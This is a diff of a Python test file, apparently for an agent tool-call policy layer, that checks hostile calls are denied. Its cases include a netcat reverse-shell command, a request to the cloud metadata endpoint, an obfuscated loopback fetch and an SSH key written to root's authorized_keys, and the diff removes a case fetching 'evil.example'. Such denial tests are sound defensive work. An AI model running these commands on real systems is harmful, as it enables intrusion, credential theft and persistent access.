@@ -72,7 +72,6 @@ async def test_reverse_shell_is_denied_and_never_forwarded(
         ("shell.exec", {"cmd": "nc 203.0.113.7 4444"}, "not_allowed"),
         ("http.fetch", {"url": "http://0x7f000001:8080/"}, "policy_denied"),
         ("http.fetch", {"url": "http://169.254.169.254/latest/meta-data/"}, "policy_denied"),
-        ("http.fetch", {"url": "https://evil.example/"}, "not_allowed"),
         (
             "file.write",
             {"path": "/root/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA"},
